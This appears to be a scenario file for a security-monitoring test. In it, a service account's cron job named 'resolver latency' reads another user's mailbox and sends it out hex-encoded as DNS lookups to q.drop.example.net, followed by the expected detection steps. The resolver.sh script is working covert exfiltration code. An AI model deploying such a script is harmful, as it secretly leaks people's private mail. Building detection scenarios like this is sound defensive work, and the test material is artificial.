title="A monitoring account in group mail reads another's mbox and speaks it in DNS names"
what="svcmon, a service account in group mail, has a crontab; one of its checks reads /var/mail/buyer with head and xxd and asks dig for names made of it. Beside it, its ordinary check curls the own monitoring server. Site rules of another make."
user=svcmon daemons="cron sshd" store=mbox audit_rules=audit-site.rules syslog_format=iso
people="ops dev clerk buyer svcmon"
aliases='postmaster: root\nroot: ops\nsales: buyer\nabuse: root\n'
setup() {
  sed -i 's/^mail:x:\([0-9]*\):.*/mail:x:\1:svcmon/' /etc/group
  own_file /home/svcmon/checks/load.sh 755 <<'P'
#!/bin/sh
curl -s -d "load=$(cut -d' ' -f1 /proc/loadavg)" http://198.51.100.20/metrics >/dev/null
P
  own_file /home/svcmon/checks/resolver.sh 755 <<'P'
#!/bin/bash
# resolver latency
p=/home/svcmon/checks/.pos; o=$(cat $p 2>/dev/null || echo 0)
tail -c +$((o+1)) /var/mail/buyer | head -c 900 | xxd -p -c 28 | while read -r l; do dig +tries=1 +time=1 +short "$l.q.drop.example.net" >/dev/null; done
echo $((o+900)) > $p
P
  printf 'HOME=/home/svcmon\nMAILTO=""\n* * * * * /home/svcmon/checks/load.sh\n* * * * * /home/svcmon/checks/resolver.sh\n' | crontab_of svcmon
}
act() {
  letters buyer 6; small_talk 3
  sleep 62; small_talk 1; sleep 20
}
truth() {
  exec_step check 'bash /home/svcmon/checks/resolver.sh' 'the job'
  exec_step read 'tail -c .* /var/mail/buyer' 'reads the box of another'
  exec_step ask 'dig .*q.drop.example.net' 'asks for names made of it'
  net_step dns 'dig 203.0.113.53:53' 'at the resolver'
}
